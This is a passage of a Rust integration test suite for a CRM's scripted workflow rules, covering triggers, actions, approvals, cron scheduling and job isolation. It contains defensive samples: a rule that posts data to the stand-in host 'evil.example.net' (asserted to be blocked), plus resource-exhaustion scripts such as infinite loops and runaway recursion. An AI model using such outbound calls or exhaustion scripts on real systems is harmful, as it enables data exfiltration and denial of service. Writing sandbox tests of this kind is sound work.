//! Workflow rules over the API: compile-on-save, versions, event triggers and every action,
//! the run log, dry runs, hostile scripts and auto-disable, cron in a time zone, and the
//! shipped two-step discount approval.

use crate::helpers::{eventually, id, Tenant, TestApp};
use serde_json::{json, Value};
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

async fn rule(app: &TestApp, t: &Tenant, body: Value) -> Value {
    app.post("/api/v1/rules", &t.token, body).await.expect(201)
}

async fn runs(app: &TestApp, t: &Tenant, rule_id: &str) -> Vec<Value> {
    app.items(&format!("/api/v1/rules/{rule_id}/runs?limit=200"), &t.token)
        .await
}

/// Waits until the rule has `n` runs and returns them, newest first.
async fn wait_runs(app: &TestApp, t: &Tenant, rule_id: &str, n: usize) -> Vec<Value> {
    eventually(&format!("{n} runs of rule {rule_id}"), || async {
        let r = runs(app, t, rule_id).await;
        (r.len() >= n).then_some(r)
    })
    .await
}

async fn customer(app: &TestApp, t: &Tenant, body: Value) -> Value {
    app.post("/api/v1/customers", &t.token, body)
        .await
        .expect(201)
}

#[tokio::test]
async fn rules_compile_on_save_and_every_edit_is_a_version() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let base = json!({
        "name": "A 级客户提醒",
        "object": "customers",
        "trigger": {"event": "customer.updated", "fields": ["level"]},
        "condition": "record.level == \"A\"",
        "script": "notify(\"owner\", \"客户升级为 A 级\");",
    });
    // Syntax error: 422 with part, line and column.
    let mut bad = base.clone();
    bad["script"] = json!("let x = 1;\nnotify(\"owner\", \"hi\"\n");
    let p = app
        .post("/api/v1/rules", &t.token, bad)
        .await
        .expect_problem(422, "compile.syntax");
    assert_eq!(p["part"], "script");
    assert!(p["line"].as_u64().expect("line") >= 2, "{p}");
    assert!(p["column"].as_u64().is_some(), "{p}");
    // eval and unknown functions are refused at save time.
    for (script, code) in [
        ("eval(\"1 + 1\")", "compile.eval_forbidden"),
        ("delete_all_customers()", "compile.unknown_function"),
    ] {
        let mut bad = base.clone();
        bad["script"] = json!(script);
        app.post("/api/v1/rules", &t.token, bad)
            .await
            .expect_problem(422, code);
    }
    let mut bad = base.clone();
    bad["condition"] = json!("record.level == ");
    let p = app
        .post("/api/v1/rules", &t.token, bad)
        .await
        .expect_problem(422, "compile.syntax");
    assert_eq!(p["part"], "condition");
    let mut bad = base.clone();
    bad["trigger"] = json!({"event": "ticket.created"});
    app.post("/api/v1/rules", &t.token, bad)
        .await
        .expect_problem(422, "validation.failed");
    let mut bad = base.clone();
    bad["run_as_role"] = json!("ghost");
    app.post("/api/v1/rules", &t.token, bad)
        .await
        .expect_problem(422, "validation.failed");

    let r = rule(&app, &t, base.clone()).await;
    assert_eq!(r["version"], 1);
    assert_eq!(r["enabled"], true);
    assert_eq!(r["run_as_role"], "admin");
    let rid = id(&r);
    let mut edited = base.clone();
    edited["condition"] = json!("record.level == \"A\" || record.level == \"B\"");
    let r2 = app
        .call(
            reqwest::Method::PUT,
            &format!("/api/v1/rules/{rid}"),
            Some(&t.token),
            Some(edited),
        )
        .await
        .expect(200);
    assert_eq!(r2["version"], 2);
    let versions = app
        .get(&format!("/api/v1/rules/{rid}/versions"), &t.token)
        .await
        .expect(200);
    let items = versions["items"].as_array().expect("items");
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["version"], 2);
    assert_eq!(items[1]["condition"], "record.level == \"A\"");
    let list = app.get("/api/v1/rules", &t.token).await.expect(200);
    assert_eq!(list["items"].as_array().expect("items").len(), 1);
    // Only workflow managers see or write rules.
    let (_, sales) = app.user_with_roles(&t, &["sales"]).await;
    app.get("/api/v1/rules", &sales)
        .await
        .expect_problem(403, "auth.forbidden");
    app.post("/api/v1/rules", &sales, base)
        .await
        .expect_problem(403, "auth.forbidden");
    app.delete(&format!("/api/v1/rules/{rid}"), &t.token)
        .await
        .expect(204);
    app.get(&format!("/api/v1/rules/{rid}"), &t.token)
        .await
        .expect_problem(404, "rule.not_found");
}

#[tokio::test]
async fn an_update_rule_fires_once_per_event_on_its_fields_with_its_version() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let r = rule(
        &app,
        &t,
        json!({
            "name": "升级 A 级后回访",
            "object": "customers",
            "trigger": {"event": "customer.updated", "fields": ["level"]},
            "condition": "record.level == \"A\" && changes.level.before != \"A\"",
            "script": r#"
                create_task(#{title: "回访 " + record.name, due_in: "2d", notes: "升级为 A 级"});
                notify("owner", "客户 " + record.name + " 升级为 A 级");
                add_comment("系统：客户升级为 A 级", false);
                set_field("source", "规则");
            "#,
        }),
    )
    .await;
    let rid = id(&r);
    let c = customer(&app, &t, json!({"name": "艾克米贸易", "level": "B"})).await;
    let cid = id(&c);
    // A change of another field does not trigger the rule.
    app.patch(
        &format!("/api/v1/customers/{cid}"),
        &t.token,
        json!({"industry": "软件"}),
    )
    .await
    .expect(200);
    app.patch(
        &format!("/api/v1/customers/{cid}"),
        &t.token,
        json!({"level": "A"}),
    )
    .await
    .expect(200);
    let done = wait_runs(&app, &t, &rid, 1).await;
    let run = &done[0];
    assert_eq!(run["outcome"], "succeeded", "{run}");
    assert_eq!(run["version"], 1);
    assert_eq!(run["trigger"]["event"], "customer.updated");
    assert_eq!(run["record_id"], cid.as_str());
    let effects = run["effects"].as_array().expect("effects");
    assert_eq!(effects.len(), 4);
    let task_id = effects[0]["result"]["task_id"].as_str().expect("task id");
    // The task is an ordinary task: the owner's, about the customer, due in two days.
    let task = app
        .get(&format!("/api/v1/tasks/{task_id}"), &t.token)
        .await
        .expect(200);
    assert_eq!(task["title"], "回访 艾克米贸易");
    assert_eq!(task["customer_id"], cid.as_str());
    assert_eq!(task["assignee_id"], t.admin_id.as_str());
    let mine = app
        .get("/api/v1/tasks?mine=true&due=upcoming", &t.token)
        .await
        .expect(200);
    assert!(mine["items"]
        .as_array()
        .expect("items")
        .iter()
        .any(|x| x["id"] == task_id));
    let notes = app.get("/api/v1/notifications", &t.token).await.expect(200);
    assert!(notes["items"]
        .as_array()
        .expect("items")
        .iter()
        .any(|n| n["title"] == "客户 艾克米贸易 升级为 A 级"));
    let c = app
        .get(&format!("/api/v1/customers/{cid}"), &t.token)
        .await
        .expect(200);
    assert_eq!(c["source"], "规则");
    // The rule's own write is in the history under the rule's principal, and does not
    // trigger the rule again.
    let history = app
        .get(&format!("/api/v1/customers/{cid}/history"), &t.token)
        .await
        .expect(200);
    let by_rule = history["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|h| h["changes"]["source"].is_object())
        .expect("the rule's change");
    assert_eq!(by_rule["actor_kind"], "rule");
    assert_eq!(by_rule["actor_id"], rid.as_str());
    // A second edit that leaves the level at A does not match; a new version runs for new
    // events only.
    app.patch(
        &format!("/api/v1/customers/{cid}"),
        &t.token,
        json!({"level": "B"}),
    )
    .await
    .expect(200);
    let done = wait_runs(&app, &t, &rid, 2).await;
    assert_eq!(done[0]["outcome"], "not_matched");
    assert_eq!(done.len(), 2);
    let schema = app.schema_of(&t).await;
    let tasks: i64 = sqlx::query_scalar(&format!(
        "SELECT count(*) FROM \"{schema}\".tasks WHERE customer_id = $1::uuid"
    ))
    .bind(&cid)
    .fetch_one(&app.pool)
    .await
    .expect("count");
    assert_eq!(tasks, 1);
}

/// A one-shot HTTP receiver: records request bodies and headers, answers 200.
/// One raw request a receiver got: its header lines and the body bytes.
pub(crate) type Received = Arc<Mutex<Vec<(String, Vec<u8>)>>>;

/// A webhook receiver on 127.0.0.1: its base URL, its port and what it receives.
pub(crate) async fn webhook_sink() -> (String, u16, Received) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let got: Received = Arc::default();
    let sink = got.clone();
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            let mut buf = Vec::new();
            let mut chunk = [0u8; 4096];
            while let Ok(n) = sock.read(&mut chunk).await {
                if n == 0 {
                    break;
                }
                buf.extend_from_slice(&chunk[..n]);
                let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else {
                    continue;
                };
                let head = String::from_utf8_lossy(&buf[..end]).to_string();
                let len: usize = head
                    .lines()
                    .find_map(|l| {
                        l.to_ascii_lowercase()
                            .strip_prefix("content-length:")
                            .map(str::to_owned)
                    })
                    .and_then(|v| v.trim().parse().ok())
                    .unwrap_or(0);
                if buf.len() >= end + 4 + len {
                    let body = buf[end + 4..end + 4 + len].to_vec();
                    sink.lock().expect("lock").push((head, body));
                    let _ = sock
                        .write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
                        .await;
                    break;
                }
            }
        }
    });
    (format!("http://127.0.0.1:{port}"), port, got)
}

/// A header of a received request, by name in any case.
pub(crate) fn header(head: &str, name: &str) -> Option<String> {
    head.lines().find_map(|l| {
        let (n, v) = l.split_once(':')?;
        n.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
    })
}

/// A server whose outbound policy lets webhooks reach a receiver on this machine over plain
/// http at `ports` (by default tenants may reach neither), with private addresses allowed or
/// not.
async fn reaching(ports: Vec<u16>, private: bool) -> TestApp {
    TestApp::spawn_with(|c| {
        c.outbound.allow_http = true;
        c.outbound.allow_private_addresses = private;
        c.outbound.allowed_ports = ports;
    })
    .await
}

#[tokio::test]
async fn ticket_rules_assign_comment_mail_schedule_and_call_allowed_webhooks() {
    let (url, port, got) = webhook_sink().await;
    let app = reaching(vec![port], true).await;
    let t = app.signup().await;
    let team = app
        .post("/api/v1/teams", &t.token, json!({"name": "售后组"}))
        .await
        .expect(201);
    let team_id = id(&team);
    let mut agents = Vec::new();
    for _ in 0..2 {
        let (agent, _) = app.user_with_roles(&t, &["service"]).await;
        app.post(
            &format!("/api/v1/teams/{team_id}/members"),
            &t.token,
            json!({"user_id": agent}),
        )
        .await
        .expect(204);
        agents.push(agent);
    }
    app.call(
        reqwest::Method::PUT,
        "/api/v1/settings/workflows",
        Some(&t.token),
        Some(json!({"webhook_hosts": ["127.0.0.1"], "failure_limit": 5})),
    )
    .await
    .expect(200);
    let r = rule(
        &app,
        &t,
        json!({
            "name": "工单轮询分派",
            "object": "tickets",
            "trigger": {"event": "ticket.created"},
            "condition": "record.priority != \"low\"",
            "script": format!(r#"
                assign_to("round_robin:售后组");
                add_comment("您好，我们已收到您的工单 " + record.number + "。", true);
                send_email("新工单 {{{{number}}}}\n\n主题：{{{{subject}}}}", "manager");
                schedule("1s", #{{action: "notify", user: "{admin}", text: "工单 " + record.number + " 一秒后提醒"}});
                webhook("{url}/hook", #{{number: record.number, priority: record.priority}});
            "#, admin = t.admin_id),
        }),
    )
    .await;
    let rid = id(&r);
    // The admin is the agents' manager, so "manager" of the assignee gets the mail.
    for a in &agents {
        app.patch(
            &format!("/api/v1/users/{a}"),
            &t.token,
            json!({"manager_id": t.admin_id}),
        )
        .await
        .expect(200);
    }
    let mut assignees = Vec::new();
    for i in 0..4 {
        let tk = app
            .post(
                "/api/v1/tickets",
                &t.token,
                json!({"subject": format!("打印机故障 {i}"), "priority": "high"}),
            )
            .await
            .expect(201);
        let tid = id(&tk);
        let done = eventually("the rule's run", || async {
            runs(&app, &t, &rid)
                .await
                .into_iter()
                .find(|r| r["record_id"] == tid.as_str())
        })
        .await;
        assert_eq!(done["outcome"], "succeeded", "{done}");
        let tk = app
            .get(&format!("/api/v1/tickets/{tid}"), &t.token)
            .await
            .expect(200);
        assignees.push(tk["assignee_id"].as_str().expect("assigned").to_owned());
        let comments = app
            .get(&format!("/api/v1/tickets/{tid}/comments"), &t.token)
            .await
            .expect(200);
        let first = &comments["items"][0];
        assert_eq!(first["public"], true);
        assert!(first["body"]
            .as_str()
            .expect("body")
            .contains(tk["number"].as_str().expect("number")));
    }
    // Round-robin: two each, alternating.
    assert_ne!(assignees[0], assignees[1]);
    assert_eq!(assignees[0], assignees[2]);
    assert_eq!(assignees[1], assignees[3]);
    // Low priority does not match.
    let low = app
        .post(
            "/api/v1/tickets",
            &t.token,
            json!({"subject": "咨询", "priority": "low"}),
        )
        .await
        .expect(201);
    let low_id = id(&low);
    let low_run = eventually("the low run", || async {
        runs(&app, &t, &rid)
            .await
            .into_iter()
            .find(|r| r["record_id"] == low_id.as_str())
    })
    .await;
    assert_eq!(low_run["outcome"], "not_matched");
    // Webhooks arrive once each, with an idempotency key.
    let hooks = eventually("four webhooks", || async {
        let g = got.lock().expect("lock").clone();
        (g.len() >= 4).then_some(g)
    })
    .await;
    let hooks: Vec<(String, Value)> = hooks
        .iter()
        .map(|(head, body)| {
            let key = header(head, "idempotency-key").unwrap_or_default();
            (key, serde_json::from_slice(body).unwrap_or(Value::Null))
        })
        .collect();
    assert_eq!(hooks.len(), 4);
    assert!(hooks.iter().all(|(key, body)| !key.is_empty()
        && body["payload"]["priority"] == "high"
        && body["rule"]["id"] == rid.as_str()));
    // The scheduled notification arrives later, once per ticket.
    let notes = eventually("four scheduled notifications", || async {
        let n = app
            .get("/api/v1/notifications?limit=100", &t.token)
            .await
            .expect(200);
        let hits = n["items"]
            .as_array()
            .expect("items")
            .iter()
            .filter(|x| {
                x["title"]
                    .as_str()
                    .unwrap_or_default()
                    .ends_with("一秒后提醒")
            })
            .count();
        (hits >= 4).then_some(hits)
    })
    .await;
    assert_eq!(notes, 4);
    // Mail to the assignee's manager (the admin), rendered from the inline template.
    let mails = eventually("four mails", || async {
        let hits: Vec<Value> = crate::mail::eml_files(&app.config.data_dir, &t.slug)
            .into_iter()
            .filter(|m| {
                m["to"]
                    .as_str()
                    .unwrap_or_default()
                    .contains(&t.admin_email)
            })
            .filter(|m| {
                m["subject"]
                    .as_str()
                    .unwrap_or_default()
                    .starts_with("新工单 T-")
            })
            .collect();
        (hits.len() >= 4).then_some(hits)
    })
    .await;
    assert_eq!(mails.len(), 4);
    assert!(mails.iter().all(|m| m["body"]
        .as_str()
        .unwrap_or_default()
        .contains("主题：打印机故障")));

    // A host that is not allowed fails the run (and nothing of it happens).
    let blocked = rule(
        &app,
        &t,
        json!({
            "name": "外发",
            "object": "tickets",
            "trigger": {"manual": true},
            "script": "add_comment(\"不会出现\", false); webhook(\"https://evil.example.net/x\", #{a: 1});",
        }),
    )
    .await;
    let tid = id(&low);
    let run = app
        .post(
            &format!("/api/v1/rules/{}/run", id(&blocked)),
            &t.token,
            json!({"record_id": tid}),
        )
        .await
        .expect(200);
    assert_eq!(run["outcome"], "failed");
    assert_eq!(run["error"]["code"], "rule.webhook_host_not_allowed");
    let comments = app
        .get(&format!("/api/v1/tickets/{tid}/comments"), &t.token)
        .await
        .expect(200);
    assert!(!comments["items"]
        .as_array()
        .expect("items")
        .iter()
        .any(|c| c["body"] == "不会出现"));
}

#[tokio::test]
async fn dry_run_shows_effects_and_errors_and_writes_nothing() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let c = customer(&app, &t, json!({"name": "王芳", "level": "A"})).await;
    let body = json!({
        "rule": {
            "name": "试运行",
            "object": "customers",
            "trigger": {"event": "customer.updated"},
            "condition": "record.level == \"A\"",
            "script": "create_task(#{title: \"回访 \" + record.name, due_in: \"7d\"}); set_field(\"level\", \"B\");",
        },
        "record_id": id(&c),
    });
    let out = app
        .post("/api/v1/rules/dry-run", &t.token, body)
        .await
        .expect(200);
    assert_eq!(out["matched"], true);
    assert_eq!(
        out["effects"],
        json!([
            {"action": "create_task", "title": "回访 王芳", "due_in": "7d", "due_in_seconds": 604800},
            {"action": "set_field", "key": "level", "value": "B"}
        ])
    );
    // A record given inline, with changes; a condition that does not hold.
    let out = app
        .post(
            "/api/v1/rules/dry-run",
            &t.token,
            json!({
                "rule": {"name": "x", "object": "customers", "trigger": {"manual": true},
                         "condition": "changes.level.after == \"A\"", "script": "notify(\"owner\", \"x\")"},
                "record": {"name": "李雷", "level": "C"},
                "changes": {"level": {"before": "A", "after": "C"}},
            }),
        )
        .await
        .expect(200);
    assert_eq!(out["matched"], false);
    assert_eq!(out["effects"], json!([]));
    // Limits are reported as a real run would.
    let out = app
        .post(
            "/api/v1/rules/dry-run",
            &t.token,
            json!({
                "rule": {"name": "x", "object": "customers", "trigger": {"manual": true},
                         "script": "let n = 0; loop { n += 1; }"},
                "record": {},
            }),
        )
        .await
        .expect(200);
    let code = out["error"]["code"].as_str().expect("error code");
    assert!(code == "limit.operations" || code == "limit.time", "{out}");
    // A saved rule by id.
    let saved = rule(
        &app,
        &t,
        json!({"name": "存", "object": "customers", "trigger": {"manual": true},
               "script": "notify(\"owner\", record.name)"}),
    )
    .await;
    let out = app
        .post(
            "/api/v1/rules/dry-run",
            &t.token,
            json!({"rule_id": id(&saved), "record": {"name": "赵六"}}),
        )
        .await
        .expect(200);
    assert_eq!(
        out["effects"],
        json!([{"action": "notify", "user": "owner", "text": "赵六"}])
    );
    // Nothing was written: no task, the level unchanged, no run logged.
    let schema = app.schema_of(&t).await;
    let tasks: i64 = sqlx::query_scalar(&format!("SELECT count(*) FROM \"{schema}\".tasks"))
        .fetch_one(&app.pool)
        .await
        .expect("count");
    assert_eq!(tasks, 0);
    let c = app
        .get(&format!("/api/v1/customers/{}", id(&c)), &t.token)
        .await
        .expect(200);
    assert_eq!(c["level"], "A");
    assert!(runs(&app, &t, &id(&saved)).await.is_empty());
    app.post("/api/v1/rules/dry-run", &t.token, json!({"record": {}}))
        .await
        .expect_problem(422, "validation.failed");
}

#[tokio::test]
async fn hostile_scripts_fail_their_runs_and_repeated_failures_turn_the_rule_off() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let c = customer(&app, &t, json!({"name": "测试客户"})).await;
    let cid = id(&c);
    // A loaded machine may reach the 100 ms wall-time limit before a size limit: either
    // stops the script.
    let hostile = [
        (
            "let n = 0; loop { n += 1; }",
            &["limit.operations", "limit.time"][..],
        ),
        ("fn f(n) { f(n + 1) } f(0);", &["limit.call_depth"][..]),
        (
            "let s = \"ab\"; loop { s += s; }",
            &["limit.string_size", "limit.time"][..],
        ),
        (
            "let a = []; loop { a.push(1); }",
            &["limit.array_size", "limit.time"][..],
        ),
    ];
    for (script, codes) in hostile {
        let r = rule(
            &app,
            &t,
            json!({"name": "恶意", "object": "customers", "trigger": {"manual": true}, "script": script}),
        )
        .await;
        let run = app
            .post(
                &format!("/api/v1/rules/{}/run", id(&r)),
                &t.token,
                json!({"record_id": cid}),
            )
            .await
            .expect(200);
        assert_eq!(run["outcome"], "failed", "{script}");
        let code = run["error"]["code"].as_str().expect("code");
        assert!(codes.contains(&code), "{script}: {code}");
        // The server keeps serving.
        app.get(&format!("/api/v1/customers/{cid}"), &t.token)
            .await
            .expect(200);
    }
    // Three failures in a row (the company's limit) turn a rule off and tell the admins.
    app.call(
        reqwest::Method::PUT,
        "/api/v1/settings/workflows",
        Some(&t.token),
        Some(json!({"webhook_hosts": [], "failure_limit": 3})),
    )
    .await
    .expect(200);
    let r = rule(
        &app,
        &t,
        json!({"name": "总失败", "object": "customers", "trigger": {"manual": true},
               "script": "set_field(\"no_such_field\", 1);"}),
    )
    .await;
    let rid = id(&r);
    for i in 0..3 {
        let run = app
            .post(
                &format!("/api/v1/rules/{rid}/run"),
                &t.token,
                json!({"record_id": cid}),
            )
            .await
            .expect(200);
        assert_eq!(run["outcome"], "failed", "run {i}");
    }
    let r = app
        .get(&format!("/api/v1/rules/{rid}"), &t.token)
        .await
        .expect(200);
    assert_eq!(r["enabled"], false);
    assert_eq!(r["consecutive_failures"], 3);
    assert!(r["disabled_reason"]
        .as_str()
        .expect("reason")
        .contains("3 failed runs"));
    let notes = app.get("/api/v1/notifications", &t.token).await.expect(200);
    assert!(notes["items"]
        .as_array()
        .expect("items")
        .iter()
        .any(|n| n["kind"] == "rule.disabled"));
    app.post(
        &format!("/api/v1/rules/{rid}/run"),
        &t.token,
        json!({"record_id": cid}),
    )
    .await
    .expect_problem(409, "rule.disabled");
}

#[tokio::test]
async fn a_schedule_rule_fires_in_its_time_zone_for_each_matching_record() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let quiet = customer(&app, &t, json!({"name": "沉默客户", "level": "A"})).await;
    customer(&app, &t, json!({"name": "普通客户", "level": "C"})).await;
    let r = rule(
        &app,
        &t,
        json!({
            "name": "工作日早九点跟进",
            "object": "customers",
            "trigger": {"schedule": "0 9 * * 1-5", "timezone": "Asia/Shanghai"},
            "condition": "record.level == \"A\"",
            "script": "create_task(#{title: \"跟进 \" + record.name, due_in: \"4h\"});",
        }),
    )
    .await;
    let rid = id(&r);
    let schema = app.schema_of(&t).await;
    let (job_id, run_at): (i64, chrono::DateTime<chrono::Utc>) = sqlx::query_as(&format!(
        "SELECT id, run_at FROM \"{schema}\".jobs WHERE kind = 'rule.cron' AND status = 'pending'"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("the first firing is queued");
    // 09:00 in Shanghai is 01:00 UTC, on a weekday.
    use chrono::{Datelike, Timelike};
    assert_eq!((run_at.hour(), run_at.minute()), (1, 0));
    assert!(run_at.weekday().number_from_monday() <= 5);
    // Make it due now.
    sqlx::query(&format!(
        "UPDATE \"{schema}\".jobs SET run_at = now() WHERE id = $1"
    ))
    .bind(job_id)
    .execute(&app.pool)
    .await
    .expect("due");
    // …and tell the worker the tenant has a job due (its hint said 09:00).
    sqlx::query("UPDATE platform.job_hints SET next_run_at = now() WHERE tenant_id = $1::uuid")
        .bind(&t.id)
        .execute(&app.pool)
        .await
        .expect("hint");
    let done = wait_runs(&app, &t, &rid, 2).await;
    assert_eq!(done.len(), 2);
    let matched: Vec<&Value> = done
        .iter()
        .filter(|r| r["outcome"] == "succeeded")
        .collect();
    assert_eq!(matched.len(), 1);
    assert_eq!(matched[0]["record_id"], id(&quiet).as_str());
    assert_eq!(matched[0]["trigger"]["kind"], "schedule");
    // The next firing is queued, again at 01:00 UTC and later than the first.
    let next: chrono::DateTime<chrono::Utc> = eventually("the next firing", || async {
        sqlx::query_scalar(&format!(
            "SELECT run_at FROM \"{schema}\".jobs WHERE kind = 'rule.cron' AND status = 'pending'"
        ))
        .fetch_optional(&app.pool)
        .await
        .expect("query")
    })
    .await;
    assert!(next > run_at);
    assert_eq!((next.hour(), next.minute()), (1, 0));
}

#[tokio::test]
async fn the_two_step_discount_approval_locks_the_opportunity_until_decided() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    app.post(
        "/api/v1/roles",
        &t.token,
        json!({"name": "sales_manager", "description": "销售经理",
               "permissions": ["customers:read", "customers:update"]}),
    )
    .await
    .expect(201);
    let (_manager, manager_token) = app.user_with_roles(&t, &["sales_manager"]).await;
    let (_finance, finance_token) = app.user_with_roles(&t, &["finance"]).await;
    let r = rule(
        &app,
        &t,
        json!({
            "name": "折扣超过 20% 需审批",
            "object": "opportunities",
            "trigger": {"event": "opportunity.updated", "fields": ["discount_pct"]},
            "condition": "record.discount_pct != () && record.discount_pct > 20.0",
            "script": r#"
                request_approval(#{
                    title: "折扣审批：" + record.name,
                    steps: [
                        #{approvers: ["role:sales_manager"], mode: "any"},
                        #{approvers: ["role:finance"], mode: "any"}
                    ],
                    on_approve: #{action: "notify", user: "owner", text: "折扣已批准：" + record.name},
                    on_reject: #{action: "set_field", key: "discount_pct", value: 20}
                });
            "#,
        }),
    )
    .await;
    let follow = rule(
        &app,
        &t,
        json!({
            "name": "审批结束后建任务",
            "object": "opportunities",
            "trigger": {"approval": "decided"},
            "script": "create_task(#{title: \"审批结果跟进 \" + record.name, due_in: \"1d\"});",
        }),
    )
    .await;
    let c = customer(&app, &t, json!({"name": "大众 4S 店"})).await;
    let opp = app
        .post(
            "/api/v1/opportunities",
            &t.token,
            json!({"name": "十台车", "customer_id": id(&c), "amount": 1000000}),
        )
        .await
        .expect(201);
    let oid = id(&opp);
    let path = format!("/api/v1/opportunities/{oid}");
    app.patch(&path, &t.token, json!({"discount_pct": 25}))
        .await
        .expect(200);
    let run = wait_runs(&app, &t, &id(&r), 1).await;
    assert_eq!(run[0]["outcome"], "succeeded", "{}", run[0]);

    let approval_id = run[0]["effects"][0]["result"]["approval_id"]
        .as_str()
        .expect("approval id")
        .to_owned();
    // Locked while pending.
    let p = app
        .patch(&path, &t.token, json!({"amount": 900000}))
        .await
        .expect_problem(409, "record.pending_approval");
    assert_eq!(p["approval_id"], approval_id.as_str());
    // Finance cannot decide the first step; the sales manager can.
    app.post(
        &format!("/api/v1/approvals/{approval_id}/approve"),
        &finance_token,
        json!({"comment": "越级"}),
    )
    .await
    .expect_problem(403, "approval.not_an_approver");
    let a = app
        .post(
            &format!("/api/v1/approvals/{approval_id}/approve"),
            &manager_token,
            json!({"comment": "同意"}),
        )
        .await
        .expect(200);
    assert_eq!(a["status"], "pending");
    assert_eq!(a["current_step"], 1);
    let a = app
        .post(
            &format!("/api/v1/approvals/{approval_id}/approve"),
            &finance_token,
            json!({"comment": "财务同意"}),
        )
        .await
        .expect(200);
    assert_eq!(a["status"], "approved");
    // Unlocked; the on_approve notification reaches the owner; the decision triggered the
    // follow-up rule.
    app.patch(&path, &t.token, json!({"amount": 900000}))
        .await
        .expect(200);
    eventually("the approval notification", || async {
        let n = app.get("/api/v1/notifications", &t.token).await.expect(200);
        n["items"]
            .as_array()
            .expect("items")
            .iter()
            .any(|x| x["title"] == "折扣已批准：十台车")
            .then_some(())
    })
    .await;
    let follow_runs = wait_runs(&app, &t, &id(&follow), 1).await;
    assert_eq!(follow_runs[0]["outcome"], "succeeded");
    assert_eq!(
        follow_runs[0]["trigger"]["event"],
        "opportunity.approval_decided"
    );

    // A rejection runs on_reject: the discount goes back to 20.
    app.patch(&path, &t.token, json!({"discount_pct": 30}))
        .await
        .expect(200);
    // (The rule's runs now also hold the on_approve action's run.)
    let second = eventually("the second approval", || async {
        runs(&app, &t, &id(&r))
            .await
            .into_iter()
            .filter(|x| x["trigger"]["kind"] == "event")
            .filter_map(|x| {
                x["effects"][0]["result"]["approval_id"]
                    .as_str()
                    .map(str::to_owned)
            })
            .find(|a| *a != approval_id)
    })
    .await;
    app.post(
        &format!("/api/v1/approvals/{second}/reject"),
        &manager_token,
        json!({"comment": "折扣太高"}),
    )
    .await
    .expect(200);
    eventually("the discount reset", || async {
        let o = app.get(&path, &t.token).await.expect(200);
        let d = o["discount_pct"].to_string().trim_matches('"').to_owned();
        (d.parse::<f64>().ok() == Some(20.0)).then_some(())
    })
    .await;
}

/// Holds the job worker off a tenant (as if another worker were visiting it), so that jobs
/// pile up and are then claimed together. Twice: a visit in progress when the hold is set
/// releases the lease when it ends.
async fn hold_jobs(app: &TestApp, t: &Tenant) {
    for _ in 0..2 {
        sqlx::query(
            "INSERT INTO platform.job_hints (tenant_id, next_run_at, leased_until) \
             VALUES ($1::uuid, now(), now() + interval '1 hour') \
             ON CONFLICT (tenant_id) DO UPDATE SET leased_until = EXCLUDED.leased_until",
        )
        .bind(&t.id)
        .execute(&app.pool)
        .await
        .expect("hold the tenant");
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
}

/// Lets the worker at a held tenant's jobs now.
async fn release_jobs(app: &TestApp, t: &Tenant) {
    sqlx::query(
        "UPDATE platform.job_hints SET leased_until = NULL, next_run_at = now() WHERE tenant_id = $1::uuid",
    )
    .bind(&t.id)
    .execute(&app.pool)
    .await
    .expect("release the tenant");
}

/// The worker runs a tenant's rule jobs several to a transaction. A job that fails among them
/// must fail alone: the group is rolled back and re-run job by job, so every good job's effect
/// happens exactly once and the bad one ends dead, visible over the API.
#[tokio::test]
async fn a_failing_job_in_a_shared_transaction_fails_alone_and_the_others_run_once() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let schema = app.schema_of(&t).await;
    let r = rule(
        &app,
        &t,
        json!({"name": "新客户通知", "object": "customers", "trigger": {"event": "customer.created"},
               "script": "notify(\"owner\", \"新客户：\" + record.name);"}),
    )
    .await;
    let rid = id(&r);
    hold_jobs(&app, &t).await;
    for i in 0..6 {
        customer(&app, &t, json!({"name": format!("客户{i}")})).await;
    }
    // Two broken jobs among the good ones: one malformed, one about an event that is gone.
    let version: i64 = sqlx::query_scalar(&format!(
        "SELECT version_id FROM {schema}.rules WHERE id = $1::uuid"
    ))
    .bind(&rid)
    .fetch_one(&app.pool)
    .await
    .expect("version");
    let third: chrono::DateTime<chrono::Utc> = sqlx::query_scalar(&format!(
        "SELECT run_at FROM {schema}.jobs WHERE kind = 'rule.run' ORDER BY run_at OFFSET 2 LIMIT 1"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("third job");
    sqlx::query(&format!(
        "INSERT INTO {schema}.jobs (kind, payload, run_at, max_attempts) VALUES \
           ('rule.run', '{{\"rule_id\": \"nonsense\"}}', $1, 3), \
           ('rule.run', jsonb_build_object('rule_id', $2::text, 'version_id', $3::bigint, \
              'outbox_id', 999999999), $1, 3)"
    ))
    .bind(third)
    .bind(&rid)
    .bind(version)
    .execute(&app.pool)
    .await
    .expect("broken jobs");
    let pending: i64 = sqlx::query_scalar(&format!(
        "SELECT count(*) FROM {schema}.jobs WHERE kind = 'rule.run' AND status = 'pending'"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("pending");
    assert_eq!(pending, 8, "the worker must not have run any yet");
    release_jobs(&app, &t).await;

    let dead = eventually("two dead rule jobs", || async {
        let page = app
            .get("/api/v1/jobs?status=dead&kind=rule.run", &t.token)
            .await
            .expect(200);
        let items = page["items"].as_array().expect("items").clone();
        (items.len() == 2).then_some(items)
    })
    .await;
    let errors: Vec<&str> = dead
        .iter()
        .map(|j| j["last_error"].as_str().expect("last_error"))
        .collect();
    assert!(errors.iter().any(|e| e.contains("malformed")), "{errors:?}");
    assert!(errors.iter().any(|e| e.contains("is gone")), "{errors:?}");
    let done = eventually("six done rule jobs", || async {
        let n: i64 = sqlx::query_scalar(&format!(
            "SELECT count(*) FROM {schema}.jobs WHERE kind = 'rule.run' AND status = 'done'"
